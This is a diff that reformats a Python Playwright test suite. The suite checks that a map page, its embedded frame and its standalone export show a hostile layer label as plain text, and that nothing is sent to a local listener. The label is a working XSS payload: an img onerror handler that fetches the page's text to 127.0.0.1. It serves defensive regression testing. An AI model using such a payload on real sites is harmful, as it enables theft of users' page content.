@@ -65,8 +65,10 @@ class Listener:
 
 def hostile_label(port: int) -> str:
     """An image whose error handler marks the document and sends its text to the listener."""
-    return ("<img src=x onerror=\"window.rxPwned=1;fetch('http://127.0.0.1:%d/vol?'"
-            "+encodeURIComponent(document.body.innerText.slice(0,500)))\">" % port)
+    return (
+        "<img src=x onerror=\"window.rxPwned=1;fetch('http://127.0.0.1:%d/vol?'"
+        '+encodeURIComponent(document.body.innerText.slice(0,500)))">' % port
+    )
 
 
 def make_qpv_hostile(folder, port: int) -> str:
@@ -136,12 +138,20 @@ def assert_nothing_ran(scope, evaluate, listener: Listener, watch: Watch) -> Non
 
     ``scope`` is the map (its frame, or the exported page) and ``evaluate`` runs a function there.
     What was found is said whole: before the fix, the listener's log holds the map's text."""
-    found = {"images of the label": scope.locator("img[src='x']").count(),
-             "its script ran": evaluate("() => window.rxPwned !== undefined"),
-             "asked of the listener": watch.asked, "received by the listener": listener.requests,
-             "dialogs": watch.dialogs}
-    assert found == {"images of the label": 0, "its script ran": False, "asked of the listener": [],
-                     "received by the listener": [], "dialogs": []}, found
+    found = {
+        "images of the label": scope.locator("img[src='x']").count(),
+        "its script ran": evaluate("() => window.rxPwned !== undefined"),
+        "asked of the listener": watch.asked,
+        "received by the listener": listener.requests,
+        "dialogs": watch.dialogs,
+    }
+    assert found == {
+        "images of the label": 0,
+        "its script ran": False,
+        "asked of the listener": [],
+        "received by the listener": [],
+        "dialogs": [],
+    }, found
 
 
 def in_map(page):
@@ -165,7 +175,7 @@ def test_a_member_opening_a_link_to_the_layer_sends_nothing(page, attack):
         expect(names.filter(has_text=SHOWN)).to_be_visible()
         assert any(label in text for text in names.all_inner_texts())
         expect(frame.locator(".rx-legend")).to_contain_text(SHOWN)
-        expect(frame.locator(".leaflet-control-attribution")).to_contain_text("onerror=\"fetch(")
+        expect(frame.locator(".leaflet-control-attribution")).to_contain_text('onerror="fetch(')
         hover_a_qpv(page, listener, watch)
         settle(page)
         no_error(page)
@@ -184,7 +194,7 @@ def test_the_stage_shows_the_label_as_text(page, attack):
         frame = map_frame(page)
         frame.locator(MARKERS).first.wait_for(timeout=60_000)
         expect(frame.locator(".rx-legend")).to_contain_text(SHOWN)
-        expect(frame.locator(".leaflet-control-attribution")).to_contain_text("onerror=\"fetch(")
+        expect(frame.locator(".leaflet-control-attribution")).to_contain_text('onerror="fetch(')
         hover_a_qpv(page, listener, watch)
         expect(frame.locator(".leaflet-tooltip").last).to_contain_text(label)
         no_error(page)
@@ -215,10 +225,15 @@ def test_the_standalone_export_opened_from_disk_shows_the_label_as_text(page, br
     # is not, so that whatever the file asks of it reaches it.
     context = browser.new_context(viewport={"width": 1400, "height": 900})
     try:
-        context.route("**/*", lambda route: route.continue_()
-                      if route.request.url.startswith("file:")
-                      or urlsplit(route.request.url).netloc == f"127.0.0.1:{listener.port}"
-                      else route.abort())
+        context.route(
+            "**/*",
+            lambda route: (
+                route.continue_()
+                if route.request.url.startswith("file:")
+                or urlsplit(route.request.url).netloc == f"127.0.0.1:{listener.port}"
+                else route.abort()
+            ),
+        )
         offline = context.new_page()
         offline.add_init_script(CSP_WATCH)
         watch = Watch(offline, listener.port)
